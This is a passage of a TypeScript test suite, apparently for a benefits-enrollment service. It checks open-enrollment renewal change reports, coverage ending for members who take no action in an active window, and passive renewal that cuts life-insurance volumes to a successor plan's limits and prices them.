        changes: ['date_change', 'volume_change'],
        previous_plan: r.w.plans.life.id,
        next_plan: r.life2027.id,
      },
      { member: r.member.id, line_of_coverage: 'dental', status: 'removed', changes: [], previous_plan: r.w.plans.dental.id, next_plan: null },
    ]);
  });

  it('when a member elects the successor in an active window, then the change report shows it as the same coverage (change, previous_plan set), and a member who did nothing loses the coverage on the renewal date', async () => {
    const r = await renewalWorld();
    const idle = await createMember(r.w.admin, { employer: r.w.employer.id, first_name: 'Idle', dob: '1980-01-01', hire_date: '2020-01-01' });
    await ok(
      r.w.admin.post('/enrollments', {
        member: idle.id,
        category: 'carrier_sync',
        effective_start: '2026-01-01',
        enrolled_plans: [{ plan: r.w.plans.medical.id }],
      }),
      201,
    );
    const window = await renewalWindow(r, 'active');
    t.clock.set('2026-11-02T15:00:00.000Z');
    try {
      // The member keeps the family still eligible in 2027 on next year's plan.
      const elected = await ok(
        r.w.admin.post('/enrollments', {
          member: r.member.id,
          category: 'open_enrollment',
          reason: 'open_enrollment',
          effective_start: '2027-01-01',
          enrolled_plans: [{ plan: r.medical2027.id, enrolled_dependents: [{ dependent: r.spouse.id }, { dependent: r.child.id }] }],
        }),
        201,
      );
      await ok(r.w.admin.post(`/enrollments/${elected.id}/save_and_submit`));
      await ok(r.w.admin.post(`/enrollments/${elected.id}/approve`));
      await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/close`));
      const completed = await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
      expect(completed).toMatchObject({ enrollment_type: 'active', completed_member_count: 1 });
      await runJobs();

      const report = await ok(r.w.admin.get(`/open_enrollment_windows/${window.id}/change_report`));
      expect(report.summaries).toEqual([
        {
          member: r.member.id,
          line_of_coverage: 'medical',
          status: 'change',
          changes: ['date_change', 'dependent_change', 'contribution_change'],
          previous_plan: r.w.plans.medical.id,
          next_plan: r.medical2027.id,
        },
        // The member who did nothing: the carrier, which carries coverage across the renewal, is told it ends.
        { member: idle.id, line_of_coverage: 'medical', status: 'removed', changes: [], previous_plan: r.w.plans.medical.id, next_plan: null },
      ]);

      // The member who did nothing in an active window keeps nothing past the plan year: the service's enrollment
      // waives the line, so that its carrier is told the coverage ends on the last day of the plan year.
      const idleEnrollments = (await ok(r.w.admin.get(`/enrollments?member=${idle.id}`))).results as any[];
      expect(idleEnrollments.map((enrollment) => [enrollment.category, enrollment.reason])).toEqual([
        ['open_enrollment', 'passive_open_enrollment'],
        ['carrier_sync', 'carrier_sync'],
      ]);
      expect(idleEnrollments[0]).toMatchObject({
        status: 'approved',
        effective_start: '2027-01-01',
        enrolled_plans: [],
        coverage_waivers: [{ line_of_coverage: 'medical' }],
      });
      const ended = await ok(r.w.admin.get(`/enrollments/${idleEnrollments[0].id}/benefit_changes`));
      expect(ended.map((change: any) => [change.status, change.coverage_end])).toEqual([['removed', '2026-12-31']]);
      expect((await ok(r.w.admin.get(`/members/${idle.id}/coverage?date=2026-12-31`))).coverage).toHaveLength(1);
      expect((await ok(r.w.admin.get(`/members/${idle.id}/coverage?date=2027-01-01`))).coverage).toEqual([]);
    } finally {
      t.clock.set('2026-03-02T15:00:00.000Z');
    }
  });

  it('when the successor has lower volume limits, then a member who did nothing is carried with each volume cut to fit (never raised), approved and priced on the carried volumes', async () => {
    const w = await createEnrollmentWorld(t);
    const perThousand = (rate: string) => compositeRates({ member: rate, member_spouse: rate, member_child: rate, member_children: rate, member_family: rate });
    // 2026 voluntary life at $0.15 per $1,000, no volume rules; its 2027 successor at $0.20 with tighter rules.
    const life2026 = await createPlan(w.admin, {
      group: w.groups.manualGroup.id,
      plan_name: 'Voluntary Life',
      line_of_coverage: 'life',
      premium_type: 'composite',
      composite_rates: perThousand('0.15'),
      rate_basis: 'per_1000_volume',
      guaranteed_issue_volume: '500000.00',
    });
    await createPlanConfiguration(w.admin, { plan: life2026.id });
    const life2027 = await ok(w.admin.post(`/plans/${life2026.id}/renew`, { effective_end: '2027-12-31', composite_rates: perThousand('0.20') }), 201);
    await ok(
      w.admin.patch(`/plans/${life2027.id}`, {
        volume_rules: { increment: '10000.00', minimum: '10000.00', maximum: '255000.00', spouse_max_percent: '50', child_maximum: '20000.00' },
      }),
    );
    const member = await createMember(w.admin, { employer: w.employer.id, first_name: 'Idle', dob: '1980-01-01', hire_date: '2020-01-01' });
    const spouse = await createDependent(w.admin, { member: member.id, member_relationship: 'spouse', dob: '1981-03-03' });
    const child = await createDependent(w.admin, { member: member.id, member_relationship: 'child', dob: '2012-01-01' });
    const grandchild = await createDependent(w.admin, { member: member.id, member_relationship: 'grandchild', dob: '2016-01-01' });
    await ok(
      w.admin.post('/enrollments', {
        member: member.id,
        category: 'carrier_sync',
        effective_start: '2026-01-01',
        enrolled_plans: [
          {
            plan: life2026.id,
            requested_volume: '300000.00',
            enrolled_dependents: [
              { dependent: spouse.id, requested_volume: '150000.00' },
              { dependent: child.id, requested_volume: '30000.00' },
              { dependent: grandchild.id, requested_volume: '10000.00' },
            ],
          },
        ],
      }),
      201,
    );
    const window = await activeWindow(w.admin, {
      employer: w.employer.id,
      start_date: '2026-11-01',
      end_date: '2026-11-30',
      renewal_date: '2027-01-01',
      plans: [life2027.id],
      enrollment_type: 'passive',
    });
    await ok(w.admin.post(`/open_enrollment_windows/${window.id}/close`));
    await ok(w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
    await runJobs();

    const passive = ((await ok(w.admin.get(`/enrollments?member=${member.id}`))).results as any[]).find(
      (enrollment) => enrollment.reason === 'passive_open_enrollment',
    );
    expect(passive?.status).toBe('approved');
    const [life] = passive.enrolled_plans;
    // Member 300,000 -> the maximum 255,000 -> 250,000 in steps of 10,000. Spouse 150,000 -> 50% of the member's
    // 250,000 -> 120,000 in steps. Child 30,000 -> the child maximum 20,000. Grandchild 10,000 fits: kept, not raised.
    // Priced on the carried volumes: (250 + 120 + 20 + 10) x $0.20 = 80.00.
    expect(life).toMatchObject({ plan: life2027.id, volume: '250000.00', requested_volume: '250000.00', eoi_status: 'not_required', premium: '80.00' });
    expect(life.enrolled_dependents.map((dependent: any) => [dependent.dependent, dependent.volume, dependent.requested_volume])).toEqual([
      [spouse.id, '120000.00', '120000.00'],
      [child.id, '20000.00', '20000.00'],
      [grandchild.id, '10000.00', '10000.00'],
    ]);
    const report = await ok(w.admin.get(`/open_enrollment_windows/${window.id}/incomplete_members_report`));
    expect(report.results.map((row: { member: string }) => row.member)).not.toContain(member.id);
  });
});
